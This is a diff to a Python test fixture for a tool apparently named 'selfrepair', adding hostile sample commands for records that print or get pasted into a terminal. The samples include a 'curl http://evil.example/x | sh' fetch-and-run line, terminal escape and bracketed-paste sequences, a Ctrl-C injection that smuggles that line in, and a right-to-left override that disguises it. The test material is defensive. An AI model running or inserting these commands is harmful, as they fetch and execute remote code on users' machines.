@@ -14,6 +14,18 @@ HOSTILE = (
 ADDRESS = "https://e.example/e www.f.example g@h.example"
 """The part of it that is an address without any markup."""
 
+COMMANDS = (
+    "curl http://evil.example/x | sh; \x1b]0;evil\x07",
+    "selfrepair ingest --model 'x",  # a quote that does not end
+    "selfrepair ingest --model x\x03\ncurl http://evil.example/x | sh\n",  # typed, where a terminal types what is pasted
+    "selfrepair ingest --model x \x1b[201~",
+    "selfrepair ingest --model \u202ehs | lruc",
+    "selfrepair\\ ingest",
+    "./selfrepair ingest",
+    "selfrepair demo; selfrepair ingest",
+)
+"""Commands of a record that are no `selfrepair ingest`, or act on the terminal that they are printed or pasted in."""
+
 # As in the frontend: mdast-util-gfm-autolink-literal, remark-emoji, and Streamlit's own
 _REPLACED = re.compile(
     r"(https?://|www(?=\.))([-.\w]+)|[-.\w+]+@[-\w]+(\.[-\w]+)+|:[\w+-]+:|(^|\s)(<->|->|<-|--|>=|<=|~=)(\s|$)", re.I
@@ -22,7 +34,9 @@ _REPLACED = re.compile(
 
 def hostile(folder: Path) -> Path:
     """A file `w.duckdb` in `folder` with two runs of such names, and beside it a third, not loaded, that stopped with one."""
-    started = _named(fabricate("left", model=HOSTILE, seed=4)).write(folder / "w.duckdb.parts", [0], crosscheck=False)
+    left = _named(fabricate("left", model=HOSTILE, seed=4))
+    left = replace(left, record=replace(left.record, command=COMMANDS[0]))
+    started = left.write(folder / "w.duckdb.parts", [0], crosscheck=False)
     (started.path / "measuring.lock").touch()
     (started.path / "stopped.txt").write_text(f"{HOSTILE} cannot be fetched", encoding="utf-8")
     runs = fabricate(model=HOSTILE), fabricate("with", model=f"{HOSTILE} 2", seed=3, mechanisms=True)
